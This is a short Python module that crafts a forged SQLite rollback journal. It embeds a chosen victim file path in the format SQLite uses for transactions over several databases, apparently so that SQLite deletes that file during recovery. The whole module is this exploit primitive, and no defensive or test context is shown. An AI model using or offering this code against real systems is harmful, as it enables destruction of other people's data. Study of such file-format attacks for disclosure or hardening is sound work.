"""Rollback journals of SQLite with which somebody has it delete a file."""

import struct
from pathlib import Path

JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")


def journal_that_names(victim: Path, database: Path) -> bytes:
    """A journal that SQLite takes for one of a transaction over several databases."""
    content, name = database.read_bytes(), str(victim).encode()
    page_bytes = int.from_bytes(content[16:18], "big")
    pages = len(content) // page_bytes
    header = JOURNAL_MAGIC + struct.pack(">IIIII", 0, 1, pages, 512, page_bytes)
    lock_page = struct.pack(">I", 0x40000000 // page_bytes + 1)
    record = name + struct.pack(">II", len(name), sum(name)) + JOURNAL_MAGIC
    return header.ljust(512, b"\0") + lock_page + record
